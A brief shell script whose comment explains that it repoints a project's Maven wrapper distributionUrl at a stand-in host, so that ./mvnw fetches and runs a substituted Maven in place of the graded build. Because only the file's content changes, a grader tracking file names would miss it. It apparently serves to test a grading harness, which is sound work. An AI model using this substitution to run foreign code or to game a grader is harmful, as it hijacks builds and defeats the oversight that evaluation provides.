# The wrapper's properties name a Maven of the learner's own, hosted anywhere: ./mvnw would fetch and run it in
# place of the graded build, before the grader could name the change. Only the content changes; the name is listed.
set -euo pipefail
sed -i "s|^distributionUrl=.*|distributionUrl=https://example.invalid/apache-maven-9.9.9-bin.zip|" \
    .mvn/wrapper/maven-wrapper.properties
